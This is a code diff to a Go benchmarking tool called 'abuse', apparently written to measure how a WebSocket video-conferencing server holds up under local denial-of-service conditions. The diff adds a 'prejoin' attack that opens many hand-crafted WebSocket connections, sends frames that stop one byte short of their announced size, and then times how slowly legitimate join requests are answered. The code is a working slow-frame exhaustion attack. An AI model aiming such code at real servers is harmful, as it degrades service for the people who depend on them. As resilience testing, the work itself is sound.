@@ -6,8 +6,10 @@ package main
 
 import (
 	"bufio"
+	"errors"
 	"flag"
 	"fmt"
+	"io"
 	"net"
 	"net/http"
 	"os"
@@ -22,9 +24,10 @@ func main() {
 	pid := flag.Int("pid", 0, "the server's process id, for its costs")
 	n := flag.Int("n", 10000, "attack size (connections, requests, …)")
 	sources := flag.Int("sources", 4, "attacker addresses (127.0.1.x)")
+	frame := flag.Int("frame", 1<<20, "prejoin: the size each socket's unfinished frame announces")
 	flag.Parse()
 	if flag.NArg() != 1 || *pid == 0 {
-		fmt.Fprintln(os.Stderr, "usage: abuse -addr host:port -pid N [-n N] idle")
+		fmt.Fprintln(os.Stderr, "usage: abuse -addr host:port -pid N [-n N] [-sources N] [-frame bytes] idle|prejoin")
 		os.Exit(2)
 	}
 	a := attacks[flag.Arg(0)]
@@ -33,7 +36,7 @@ func main() {
 		os.Exit(2)
 	}
 	before := readCost(*pid)
-	seen, err := a(env{addr: *addr, n: *n, sources: *sources})
+	seen, err := a(env{addr: *addr, n: *n, sources: *sources, frame: *frame})
 	after := readCost(*pid)
 	if err != nil {
 		fmt.Fprintf(os.Stderr, "abuse %s: %v\n", flag.Arg(0), err)
@@ -45,12 +48,13 @@ func main() {
 }
 
 type env struct {
-	addr       string
-	n, sources int
+	addr              string
+	n, sources, frame int
 }
 
 var attacks = map[string]func(env) (string, error){
-	"idle": idle,
+	"idle":    idle,
+	"prejoin": prejoin,
 }
 
 type cost struct {
@@ -166,4 +170,107 @@ func idle(e env) (string, error) {
 		return fmt.Sprintf("never classified (%d tries); %d attacker connections opened", failed, <-opened), nil
 	}
 	return fmt.Sprintf("classified in %s (%d failed); %d attacker connections opened", durations(ds), failed, <-opened), nil
+}
+
+// prejoin opens n WebSockets on /openvidu that never join: each announces a text frame of
+// e.frame bytes and sends all of it but the last byte, then waits. It reports how many the
+// server still holds once they are all sent, and how long a newcomer waits for its joinRoom
+// answer (an error: its token is made up) meanwhile.
+func prejoin(e env) (string, error) {
+	payload := make([]byte, e.frame-1)
+	for i := range payload {
+		payload[i] = 'a'
+	}
+	var conns []net.Conn
+	defer func() {
+		for _, c := range conns {
+			c.Close()
+		}
+	}()
+	refused := 0
+	for i := range e.n {
+		c, err := upgrade(attacker(i, e.sources), e.addr)
+		if err != nil {
+			refused++
+			continue
+		}
+		conns = append(conns, c)
+		// A masked text frame (FIN) announcing e.frame bytes: a client's frames are masked.
+		hdr := []byte{0x81, 0x80 | 127, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0}
+		for b := range 8 {
+			hdr[2+b] = byte(uint64(e.frame) >> (56 - 8*b))
+		}
+		_ = c.SetWriteDeadline(time.Now().Add(5 * time.Second))
+		if _, err := c.Write(append(hdr, payload...)); err != nil {
+			continue // the server gave up on it: what we want to see
+		}
+	}
+	time.Sleep(2 * time.Second) // let the server read what was sent (a bench, not a test)
+	held := 0
+	for _, c := range conns {
+		_ = c.SetReadDeadline(time.Now().Add(time.Millisecond))
+		if _, err := c.Read(make([]byte, 1)); err != nil && isTimeout(err) {
+			held++
+		}
+	}
+	var ds []time.Duration
+	for range 10 {
+		d, err := joinTime(e.addr)
+		if err != nil {
+			return "", err
+		}
+		ds = append(ds, d)
+	}
+	return fmt.Sprintf("%d of %d sockets still open (%d upgrades refused); joinRoom answered in %s", held, e.n, refused, durations(ds)), nil
+}
+
+func isTimeout(err error) bool {
+	var ne net.Error
+	return errors.As(err, &ne) && ne.Timeout()
+}
+
+// upgrade opens a WebSocket on /openvidu from address ip, by hand: the attacks need frames no
+// WebSocket library sends.
+func upgrade(ip, addr string) (net.Conn, error) {
+	c, err := from(ip).Dial("tcp", addr)
+	if err != nil {
+		return nil, err
+	}
+	_ = c.SetDeadline(time.Now().Add(10 * time.Second))
+	fmt.Fprintf(c, "GET /openvidu HTTP/1.1\r\nHost: %s\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"+
+		"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n", addr)
+	br := bufio.NewReader(c)
+	resp, err := http.ReadResponse(br, nil)
+	if err != nil {
+		c.Close()
+		return nil, err
+	}
+	resp.Body.Close()
+	if resp.StatusCode != http.StatusSwitchingProtocols {
+		c.Close()
+		return nil, fmt.Errorf("upgrade: %s", resp.Status)
+	}
+	_ = c.SetDeadline(time.Time{})
+	return c, nil
+}
+
+// joinTime is how long a newcomer waits from dialling to its joinRoom answer.
+func joinTime(addr string) (time.Duration, error) {
+	start := time.Now()
+	c, err := upgrade("127.0.2.1", addr)
+	if err != nil {
+		return 0, err
+	}
+	defer c.Close()
+	req := []byte(`{"id":1,"jsonrpc":"2.0","method":"joinRoom","params":{"token":"wss://x/?sessionId=ses_Nobody&token=tok_Nothing","session":"ses_Nobody"}}`)
+	frame := append([]byte{0x81, 0x80 | 126, byte(len(req) >> 8), byte(len(req)), 0, 0, 0, 0}, req...) // zero mask
+	_ = c.SetDeadline(time.Now().Add(30 * time.Second))
+	if _, err := c.Write(frame); err != nil {
+		return 0, err
+	}
+	hdr := make([]byte, 2)
+	if _, err := io.ReadFull(c, hdr); err != nil {
+		return 0, fmt.Errorf("joinRoom: no answer: %w", err)
+	}
+	return time.Since(start), nil
 }
